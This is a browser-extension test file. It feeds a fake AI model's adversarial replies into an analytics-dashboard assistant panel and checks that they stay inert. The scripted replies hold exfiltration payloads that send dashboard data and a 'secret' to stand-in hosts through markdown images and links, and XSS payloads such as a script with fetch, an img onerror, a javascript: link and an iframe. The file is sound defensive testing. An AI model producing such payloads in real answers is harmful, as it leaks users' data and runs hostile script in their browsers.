import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { test, expect } from './fixtures';
import { openPanel, type PanelPage } from './pages/panel';

// A compromised or confused model answers. Whatever it sends stays text in the panel: wrong numbers are
// marked, nothing is fetched from another host, no markup runs, and the dashboard is left untouched.

const FIXTURES = join(import.meta.dirname, '..', 'fixtures');
const BOARD = join(FIXTURES, 'dashboards', 'growth-mixpanel');
const CHARTS = (JSON.parse(readFileSync(join(BOARD, 'dist', 'expected.json'), 'utf8')) as { charts: unknown[] }).charts.length;

type Turn = Record<string, unknown>;
interface LlmServer { url: string; close(): Promise<void> }
async function startLlm(script: Turn[]): Promise<LlmServer> {
  const mod = (await import(pathToFileURL(join(FIXTURES, 'llm-server.mjs')).href)) as { startLlmServer(o: { script: Turn[] }): Promise<LlmServer> };
  return mod.startLlmServer({ script });
}
async function adversarial(name: string): Promise<Turn> {
  const mod = (await import(pathToFileURL(join(FIXTURES, 'llm-server.mjs')).href)) as { ADVERSARIAL: Record<string, Turn> };
  return mod.ADVERSARIAL[name];
}

/** "Another host" on loopback that only counts what reaches it. */
async function startSink(host: string): Promise<{ server: Server; port: number; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => { hits.push(`${req.method} ${req.url}`); res.end('x'); });
  await new Promise<void>((ok) => server.listen(0, host, ok));
  return { server, port: (server.address() as AddressInfo).port, hits };
}

test.describe.configure({ timeout: 120_000 });

test('adversarial replies stay inert text: wrong numbers marked, no request to another host, no markup runs, the page unchanged',
  async ({ context, extensionId, serverUrl, page }) => {
    const sink2 = await startSink('127.0.0.2');
    const sink3 = await startSink('127.0.0.3');
    const at2 = `http://127.0.0.2:${sink2.port}`;
    const at3 = `http://127.0.0.3:${sink3.port}`;
    const wrong = await adversarial('wrongNumbers');
    const llm = await startLlm([
      { match: { user: 'How is activation?' }, ...wrong },
      { match: { user: 'Show me a picture' },
        text: `Here is the chart: ![activation](${at2}/leak?d=activation%3D34.2) and [details](${at3}/p?k=secret) <${at2}/auto>` },
      { match: { user: 'Summarise' },
        text: `Summary <img src="${at2}/img" onerror="window.__loupePwned=1"> <script>window.__loupePwned=2;fetch("${at2}/x")</script> <a href="javascript:window.__loupePwned=3">open</a> <iframe src="${at3}/frame"></iframe>` },
    ]);
    let panel: PanelPage | undefined;
    try {
      await page.goto(`${serverUrl}/dashboards/growth-mixpanel/?run=adversarial`);
      await expect(page.locator('canvas').first()).toBeVisible();
      panel = await openPanel(context, extensionId, page.url());
      const p = panel;
      await expect(async () => {
        await p.page.getByRole('button', { name: 'Read again' }).click();
        await expect(p.charts).toHaveCount(CHARTS, { timeout: 1500 });
      }).toPass({ timeout: 15_000 });
      await p.page.evaluate(async (provider) => {
        const { chrome } = globalThis as unknown as { chrome: { storage: { local: { set(v: object): Promise<void> } } } };
        await chrome.storage.local.set({ provider, pauseAi: false });
      }, { provider: 'compatible', baseUrl: llm.url, model: 'test-model' });
      await p.openAsk();

      // The dashboard as the person sees it, without Loupe's own overlays and markers.
      const pageHtml = () => page.evaluate(() => {
        const copy = document.documentElement.cloneNode(true) as HTMLElement;
        copy.querySelectorAll('[data-loupe-overlay]').forEach((el) => el.remove());
        copy.querySelectorAll('*').forEach((el) => {
          for (const a of Array.from(el.attributes)) if (a.name.startsWith('data-loupe')) el.removeAttribute(a.name);
        });
        return copy.outerHTML;
      });
      const before = await pageHtml();

      // Numbers nothing backs are underlined and say so.
      const q1 = 'How is activation?';
      await p.ask(q1);
      await expect(p.answerText(q1)).toContainText('$9.9M');
      await expect(p.turnStatus(q1)).toHaveCount(0);
      const marked = p.unsupported(q1);
      await expect(marked.filter({ hasText: '42.7%' })).toHaveCount(1);
      await expect(marked.filter({ hasText: '$9.9M' })).toHaveCount(1);
      await expect(marked.first()).toHaveAttribute('title', /not found in the dashboard/);
      await expect(marked.first().locator('.visually-hidden')).toHaveText(/not found in the dashboard/);
      await expect(p.answer(q1).locator('.verify-note')).toContainText('not found in the dashboard');

      // An image and links to other hosts: shown as text, never loaded, never clickable.
      const q2 = 'Show me a picture';
      await p.ask(q2);
      await expect(p.answerText(q2)).toContainText('[image removed: activation]');
      await expect(p.answerText(q2)).toContainText(`details (${at3}/p?k=secret)`);
      await expect(p.answer(q2).locator('img, a')).toHaveCount(0);

      // Raw HTML: visible as text, no element, no script ran.
      const q3 = 'Summarise';
      await p.ask(q3);
      await expect(p.answerText(q3)).toContainText('<script>');
      await expect(p.turnStatus(q3)).toHaveCount(0);
      await expect(p.page.locator('.ask-view').locator('img, script, iframe, a, [onerror]')).toHaveCount(0);
      expect(await p.page.evaluate(() => (window as unknown as { __loupePwned?: number }).__loupePwned)).toBeUndefined();

      // Nothing reached the other hosts, and the panel did not even try.
      const tried = await p.page.evaluate(() => performance.getEntriesByType('resource').map((e) => e.name)
        .filter((n) => n.includes('127.0.0.2') || n.includes('127.0.0.3')));
      expect(tried).toEqual([]);
      expect(sink2.hits).toEqual([]);
      expect(sink3.hits).toEqual([]);

      // The dashboard page is exactly as it was.
      expect(await pageHtml()).toBe(before);
      expect(await page.evaluate(() => (window as unknown as { __loupePwned?: number }).__loupePwned)).toBeUndefined();
    } finally {
      await panel?.page.close();
      await llm.close();
      for (const sink of [sink2, sink3]) {
        sink.server.closeAllConnections();
        await new Promise((ok) => sink.server.close(ok));
      }
    }
  });
